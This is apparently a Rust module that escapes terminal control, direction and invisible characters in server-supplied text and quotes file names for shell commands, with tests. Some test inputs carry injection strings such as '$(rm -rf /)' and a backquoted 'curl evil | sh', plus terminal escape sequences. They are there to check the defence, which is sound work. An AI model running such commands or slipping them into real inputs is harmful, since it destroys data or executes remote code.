//! Text of sites and servers on its way to a person: what would steer a terminal or a page is written out.
//!
//! Every front end passes what it shows through one of these; none of them changes text that steers nothing. What is
//! only stored stays as it came, but for [`short`], which is for facts that people read on every list.

use std::borrow::Cow;

/// Whether a character moves the cursor, changes how what follows is shown, or cannot be seen: C0 without newline and
/// tab, DEL, C1, the separators that some terminals break lines at, the marks of writing direction, and characters
/// without width that no script needs.
pub fn steers(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        _ => {
            c.is_control()
                || matches!(c,
                    '\u{00AD}' | '\u{061C}' | '\u{180E}' | '\u{200B}' | '\u{200E}' | '\u{200F}' | '\u{2028}'..='\u{202E}'
                    | '\u{2060}'..='\u{206F}' | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E007F}')
        }
    }
}

fn written_out(text: &str, is: fn(char) -> bool) -> Cow<'_, str> {
    if !text.contains(is) {
        return Cow::Borrowed(text);
    }
    let mut clean = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        // The form that Rust, and so every other message of ours, writes such characters in.
        if is(c) { clean.extend(c.escape_default()) } else { clean.push(c) }
    }
    Cow::Owned(clean)
}

/// Returns the text for a terminal: `\u{1b}]0;x` for what would have set its title. Lines and tabs stay.
pub fn visible(text: &str) -> Cow<'_, str> {
    written_out(text, steers)
}

/// Returns the text for a place that has one line, such as a table's cell: newlines and tabs are written out, too.
pub fn one_line(text: &str) -> Cow<'_, str> {
    written_out(text, |c| steers(c) || matches!(c, '\n' | '\t'))
}

/// Returns a JSON text in which every such character is a JSON escape: whoever parses it gets what was said, and a
/// terminal that it is printed to is steered by nothing.
pub fn json(document: &str) -> Cow<'_, str> {
    // Those of C0 are escaped by any writer of JSON.
    if !document.contains(steers) {
        return Cow::Borrowed(document);
    }
    let mut clean = String::with_capacity(document.len() + 16);
    for c in document.chars() {
        if steers(c) {
            let mut units = [0; 2];
            clean.extend(c.encode_utf16(&mut units).iter().map(|unit| format!("\\u{unit:04x}")));
        } else {
            clean.push(c);
        }
    }
    Cow::Owned(clean)
}

/// Returns a fact that a server told of itself as it is stored: one line of at most `max` characters that steers nothing.
pub fn short(text: &str, max: usize) -> String {
    let clean: String = text.trim().chars().map(|c| if steers(c) || c.is_whitespace() { ' ' } else { c }).take(max).collect();
    clean.trim().to_owned()
}

/// Returns a name as one word of a command that a person is told to run. One that could be more than a word, or end the
/// command's own marks, is not in the command: `FILE` stands for it, and the message says which is meant.
pub fn word(name: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_alphanumeric() || "-_./=:,@%+".contains(c);
    if !name.is_empty() && !name.starts_with('-') && name.chars().all(plain) {
        Cow::Borrowed(name)
    } else if name.is_empty() || name.contains(|c| steers(c) || matches!(c, '\'' | '`' | '\n' | '\t')) {
        Cow::Borrowed("FILE")
    } else {
        Cow::Owned(format!("'{name}'"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a13_no_name_adds_to_a_command_that_is_told() {
        assert_eq!(word("/srv/p/web-1.x/é"), "/srv/p/web-1.x/é");
        assert_eq!(word("/srv/my site; $(rm -rf /)"), "'/srv/my site; $(rm -rf /)'");
        for odd in ["", "a`; curl evil | sh; `", "it's", "a\nb", "a\u{202e}b", "a\u{1b}[2J"] {
            assert_eq!(word(odd), "FILE", "{odd:?}");
        }
        assert_eq!(word("-rf"), "'-rf'");
    }

    #[test]
    fn a13_what_steers_is_written_out_and_all_else_stays() {
        assert_eq!(visible("bücher\t日本\nنص e\u{301} 👩\u{200D}💻"), "bücher\t日本\nنص e\u{301} 👩\u{200D}💻");
        assert_eq!(visible("\u{1b}]52;c;eA==\u{7}a\rb\u{9b}31m\u{7f}"), "\\u{1b}]52;c;eA==\\u{7}a\\rb\\u{9b}31m\\u{7f}");
        assert_eq!(visible("a\u{202e}b\u{2028}\u{200b}\u{e0041}"), "a\\u{202e}b\\u{2028}\\u{200b}\\u{e0041}");
        assert_eq!(one_line("a\nb\tc"), "a\\nb\\tc");
        assert_eq!(short("  Debian\u{1b}[31m 12\n(x)  ", 14), "Debian [31m 12");
    }

    proptest::proptest! {
        #[test]
        fn a13_no_text_steers_and_json_says_the_same(text in "(\\PC|\\p{Cc}|\\p{Cf}|\\p{Zl}|\\p{Zp}){0,30}") {
            proptest::prop_assert!(!visible(&text).contains(steers));
            proptest::prop_assert!(!one_line(&text).contains(|c| steers(c) || c == '\n' || c == '\t'));
            let document = serde_json::to_string_pretty(&serde_json::json!({ "a": [&text] })).unwrap_or_default();
            let printed = json(&document);
            proptest::prop_assert!(!printed.contains(steers));
            proptest::prop_assert_eq!(&serde_json::from_str::<serde_json::Value>(&printed).unwrap_or_default()["a"][0], &serde_json::Value::from(text));
        }
    }
}
